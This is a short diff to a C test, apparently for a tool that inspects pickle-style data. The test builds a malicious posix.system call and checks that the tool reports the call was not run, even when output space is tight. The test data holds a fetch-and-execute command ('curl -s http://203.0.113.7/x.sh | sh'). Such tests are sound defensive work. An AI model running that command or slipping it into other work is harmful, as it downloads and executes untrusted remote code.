@@ -98,7 +98,7 @@ TEST(that_a_call_was_not_run_is_said_also_where_there_is_little_room)
     values = build_values(&s.build);
     run[0] = value_str(values, STR("curl -s http://203.0.113.7/x.sh | sh"));
     CHECK(build_pickle_global(&s.build, STR("posix.system"), 5) == 0);
-    sample_value(&s, 0, "best_acc1",
+    sample_plain(&s, 0, "best_acc1",
                  value_make(values, VALUE_CALL, STR("posix.system"), run, 1));
     sample_finish(&s);
     CHECK_STR(sample_tree(&s, &everything, 50),
